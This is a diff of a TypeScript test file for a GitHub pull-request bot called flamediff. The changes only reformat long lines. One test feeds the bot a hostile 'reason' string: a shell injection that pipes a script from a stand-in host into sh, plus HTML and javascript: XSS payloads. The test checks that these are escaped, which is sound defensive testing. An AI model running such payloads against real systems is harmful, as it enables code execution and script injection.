@@ -60,7 +60,10 @@ describe('help and unknown commands', () => {
 
 describe('ignored comments (no API call at all)', () => {
   const cases: [string, Record<string, unknown>][] = [
-    ['its own sticky comment', commentPayload(`${COMMENT_MARKER}\n/flamediff accept`, 'github-actions[bot]', 'Bot')],
+    [
+      'its own sticky comment',
+      commentPayload(`${COMMENT_MARKER}\n/flamediff accept`, 'github-actions[bot]', 'Bot'),
+    ],
     ['its own reply', commentPayload(`${REPLY_MARKER}\n/flamediff help`, 'someone')],
     ['another bot', commentPayload('/flamediff accept', 'dependabot[bot]', 'Bot')],
     ['a comment without a command', commentPayload('LGTM, but /flamediff is slow?')],
@@ -79,7 +82,10 @@ describe('ignored comments (no API call at all)', () => {
     const p = commentPayload('/flamediff accept') as { issue: { pull_request?: unknown } };
     delete p.issue.pull_request;
     const bot = testBot(p as Record<string, unknown>);
-    expect(await handleIssueComment(bot)).toMatchObject({ kind: 'ignored', reason: '#2 is an issue, not a pull request' });
+    expect(await handleIssueComment(bot)).toMatchObject({
+      kind: 'ignored',
+      reason: '#2 is an issue, not a pull request',
+    });
   });
 
   it('an edited comment does not repeat the command', async () => {
@@ -118,7 +124,12 @@ describe('/flamediff accept', () => {
     if (!scope.isDone()) console.log(scope.pendingMocks(), bot.lines);
     expect(scope.isDone()).toBe(true);
     const a = await isAccepted(bot.store(), 2, HEAD);
-    expect(a).toMatchObject({ sha: HEAD, by: 'maintainer-mona', reason: 'the new cache costs 2% on cold start', via: 'comment' });
+    expect(a).toMatchObject({
+      sha: HEAD,
+      by: 'maintainer-mona',
+      reason: 'the new cache costs 2% on cold start',
+      via: 'comment',
+    });
     expect(await isAccepted(bot.store(), 2, 'f'.repeat(40))).toBeNull();
     expect(patched.startsWith(COMMENT_MARKER)).toBe(true);
     expect(patched).toContain('**Accepted** with `/flamediff accept` by `maintainer-mona`');
@@ -166,13 +177,16 @@ describe('/flamediff accept', () => {
       expect(scope.isDone()).toBe(true);
       expect(body).toContain('Sorry `drive-by`, only people with write access');
       expect(await readAcceptances(bot.store(), 2)).toEqual([]);
-      expect(bot.lines.join('\n')).toMatch(/warning: flamediff: drive-by asked to accept #2 but has '\w+' access/);
+      expect(bot.lines.join('\n')).toMatch(
+        /warning: flamediff: drive-by asked to accept #2 but has '\w+' access/,
+      );
     });
   }
 
   it('shell metacharacters and HTML in the reason are stored as text and escaped in the comment', async () => {
     let patched = '';
-    const reason = '$(curl evil.sh | sh); `id` && <img src=x onerror=alert(1)> [x](javascript:alert(1)) @octocat';
+    const reason =
+      '$(curl evil.sh | sh); `id` && <img src=x onerror=alert(1)> [x](javascript:alert(1)) @octocat';
     const scope = permission(nock(API), 'maintainer-mona', 'permission.write.json')
       .get(`${REPO}/pulls/2`)
       .reply(200, fixture('pull.json'))
@@ -194,7 +208,10 @@ describe('/flamediff accept', () => {
     expect((await handleIssueComment(bot)).kind).toBe('accepted');
     expect(scope.isDone()).toBe(true);
     expect((await isAccepted(bot.store(), 2, HEAD))?.reason).toBe(reason);
-    const block = patched.slice(patched.indexOf('<!-- flamediff:accepted -->'), patched.indexOf('<!-- /flamediff:accepted -->'));
+    const block = patched.slice(
+      patched.indexOf('<!-- flamediff:accepted -->'),
+      patched.indexOf('<!-- /flamediff:accepted -->'),
+    );
     expect(block).not.toContain('<img');
     expect(block).toContain('&lt;img');
     expect(block).not.toMatch(/@octocat/);
